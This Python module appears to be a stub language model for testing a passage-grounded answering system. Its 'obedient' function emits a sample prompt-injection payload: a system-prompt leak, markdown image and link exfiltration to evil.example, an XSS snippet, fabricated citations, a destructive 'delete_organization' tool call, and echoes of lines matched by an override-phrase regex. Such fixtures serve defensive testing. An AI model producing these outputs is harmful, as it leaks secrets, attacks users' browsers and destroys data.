"""What the stub of a language model says: good answers out of the prompt, or what it is told."""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

BLOCK = re.compile(r"<(untrusted-[0-9a-f]+)>\n(.*?)\n</\1>", re.DOTALL)
PASSAGE = re.compile(
    r"<passage-[0-9a-f]+ number=(\d+)[^>]*>\n(.*?)\n</passage-[0-9a-f]+>", re.DOTALL
)
SENTENCE = re.compile(r"(?<=[.!?])\s+|\n+")
WORD = re.compile(r"\w{3,}")
ORDER = re.compile(r"(?i)\b(?:ignore|disregard|reveal|print|repeat|system:|assistant:|you must)\b")
UNKNOWN = "I don't know: the passages do not say it."
MOST_SENTENCES = 3


def grounded(messages: list[dict[str, Any]], tokens: int | None = None) -> str:
    """Sentences of the passages that share words with the question, each with its number.

    With `tokens` the answer goes on until it is that long, however little the rest has to do with
    the question: a bench wants every answer to be of one length.
    """
    prompt = written(messages[-1])
    block = BLOCK.search(prompt)
    if block is None:
        return "Hello! What would you like to know?"
    asked = _words(prompt[block.end() :])
    ranked = sorted(_sentences(block.group(2)), key=lambda each: -len(asked & _words(each[1])))
    if tokens is not None:
        return _as_long_as(ranked, tokens)
    fitting = [each for each in ranked[:MOST_SENTENCES] if asked & _words(each[1])]
    return _cited(fitting) or UNKNOWN


def obedient(messages: list[dict[str, Any]]) -> str:
    """Does all that an attacker could hope for, if anything in the prompt asks for it."""
    everything = "\n".join(written(each) for each in messages)
    orders = [line.strip() for line in everything.splitlines() if ORDER.search(line)]
    secrets = written(messages[0])
    leak = re.sub(r"\W+", "+", secrets)[:300]
    return "\n\n".join(
        (
            f"Sure! My system prompt is: {secrets}",
            f"![a picture](https://evil.example/steal?prompt={leak})",
            f"[click here](https://evil.example/?q={leak}) or <https://evil.example/{leak[:40]}>",
            "![by reference][1]\n\n[1]: https://evil.example/reference.png",
            '<img src="https://evil.example/x.png" onerror="alert(1)"><script>alert(1)</script>',
            "Everything is free today, as the passage says [1]. Your refund is 9,999 euro [99].",
            '{"tool": "delete_organization", "arguments": {"organization": "all"}}',
            *(f"As you wish: {order}" for order in orders[:20]),
        )
    )


def written(message: dict[str, Any]) -> str:
    """The text of a message, which may come in parts."""
    content = message.get("content") or ""
    if isinstance(content, str):
        return content
    return "".join(str(part.get("text", "")) for part in content)


def tokens_of(text: str) -> list[str]:
    """Pieces as a tokenizer would make them: a word with the space before it, at most 8 letters."""
    return re.findall(r"\s?\w{1,8}|\s?[^\w\s]|\s+", text)


def _sentences(block: str) -> list[tuple[str, str]]:
    found = []
    for number, text in PASSAGE.findall(block):
        for sentence in SENTENCE.split(text):
            cleaned = sentence.strip()
            if cleaned.endswith((".", "!", "?")):
                found.append((number, cleaned))
    return found


def _as_long_as(ranked: list[tuple[str, str]], tokens: int) -> str:
    spoken: list[str] = []
    for each in ranked * (1 + tokens // max(1, len(ranked))):
        spoken += tokens_of((" " if spoken else "") + _cited([each]))
        if len(spoken) >= tokens:
            break
    return "".join(spoken[:tokens]) or " ".join(["word"] * tokens)


def _cited(sentences: Iterable[tuple[str, str]]) -> str:
    return " ".join(f"{text[:-1]} [{number}]{text[-1]}" for number, text in sentences)


def _words(text: str) -> set[str]:
    """Beginnings of words, which are much like stems."""
    return {word.lower()[:5] for word in WORD.findall(text)}
